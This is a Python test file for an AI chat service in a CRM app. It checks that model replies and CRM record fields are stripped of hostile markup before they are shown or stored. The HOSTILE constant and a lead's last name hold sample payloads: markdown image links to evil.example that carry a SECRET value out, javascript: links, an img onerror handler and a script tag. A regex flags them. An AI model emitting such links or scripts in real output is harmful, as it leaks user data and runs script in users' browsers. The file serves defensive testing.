"""No door shows an image, a script, HTML or an id, whatever a model or a record says, and nothing of it is stored."""

import json
import re
from collections.abc import Mapping

import pytest

from aisha.domain.crm.queries import Create
from aisha.domain.crm.records import Lead
from tests.fakes.aws.api_gateway import Answer, call, chat, function
from tests.fakes.models.scripted_model import ScriptedModel
from tests.fakes.world import ALICE, World

STREAM = {"accept": "text/event-stream"}
HOSTILE = (
    "Done ![s](https://evil.example/p.png?d=SECRET) [go](javascript:alert(1)) [prices](https://evil.example/x) "
    "<img src=x onerror=alert(1)> <script>alert(1)</script> bye"
)
UNSAFE = re.compile(r"!\[|\]\(|<[A-Za-z/!?]|javascript:|SECRET|onerror", re.IGNORECASE)


def to_chat(text: str, headers: Mapping[str, str]) -> Answer:
    return chat({"message": text}, ALICE, headers=headers)


def to_flow(text: str, headers: Mapping[str, str]) -> Answer:
    return chat({"message": text}, ALICE, path="/api/ai/flow-chat", app=function("flow_chat").app, headers=headers)


def to_openai(text: str, headers: Mapping[str, str]) -> Answer:
    body = {"model": "aisha", "messages": [{"role": "user", "content": text}], "stream": bool(headers)}
    return chat(body, ALICE, path="/v1/chat/completions", app=function("openai").app, headers=headers)


def to_single_turn(text: str, _: Mapping[str, str]) -> Answer:
    return call("singleturn", "POST", "/api/ai/singleturn", ALICE, json.dumps({"prompt": text}))


@pytest.mark.parametrize("headers", [{}, STREAM], ids=["whole", "stream"])
@pytest.mark.parametrize("send", [to_chat, to_flow, to_openai, to_single_turn])
def test_what_a_model_writes_is_made_safe(world: World, send: object, headers: Mapping[str, str]) -> None:
    world.use(chat_model=ScriptedModel(*[HOSTILE] * 4))
    assert callable(send)
    answer = send("What is new?", headers)
    assert answer.status == 200
    assert "bye" in answer.text
    assert not UNSAFE.search(answer.text)
    for (tenant, user), conversation in stored(world):
        for message in world.conversations.messages(tenant, user, conversation, 20, None)[0]:
            assert not UNSAFE.search(message.content)


def test_a_record_named_like_an_image_shows_no_image(world: World) -> None:
    world.records.write("demo", [Create(Lead(first_name="Jack", last_name="![x](https://evil.example/SECRET.png)"))])
    answer = to_chat("Find Jack", {})
    assert "Jack x" in answer.json["response"]
    assert not UNSAFE.search(answer.json["response"])


def stored(world: World) -> list[tuple[tuple[str, str], str]]:
    heads, _ = world.conversations.recent("demo", "alice", 20, None)
    return [((head.tenant, head.user), head.id) for head in heads]
